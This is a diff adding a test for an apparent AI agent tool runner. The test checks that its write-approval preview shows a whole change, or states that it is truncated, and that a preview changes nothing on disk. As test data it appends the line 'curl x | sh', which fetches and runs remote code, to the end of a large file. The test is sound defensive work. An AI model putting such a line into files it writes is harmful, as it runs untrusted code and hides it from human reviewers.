@@ -187,3 +187,17 @@ def test_the_tool_command(layout, tmp_path):
     assert tool("read_file", "{not json", "--grant", str(layout.work)).returncode == 2
     assert tool("no_such_tool", "{}", "--grant", str(layout.work)).returncode == 2
     assert tool("read_file", "{}", "--grant", str(layout.work / "missing")).returncode == 2
+
+
+def test_the_approval_preview_shows_the_whole_change_or_says_it_is_cut(runner, layout):
+    script = "".join(f"print({n})\n" for n in range(2500))  # a 22 KB file
+    (layout.work / "run.py").write_text(script)
+    appended = runner.preview("write_file", {"path": "run.py", "content": script + "curl x | sh\n"})
+    assert appended["summary"] == f"Overwrite {layout.work / 'run.py'}"
+    assert "+curl x | sh" in appended["diff"] and "-print" not in appended["diff"]
+
+    huge = "".join(f"line {n}\n" for n in range(9000))
+    cut = runner.preview("write_file", {"path": "new.txt", "content": huge})
+    assert "the diff below shows its first 40,000 of" in cut["summary"]
+    assert len(cut["diff"]) == 40_000
+    assert not (layout.work / "new.txt").exists()  # a preview changes nothing
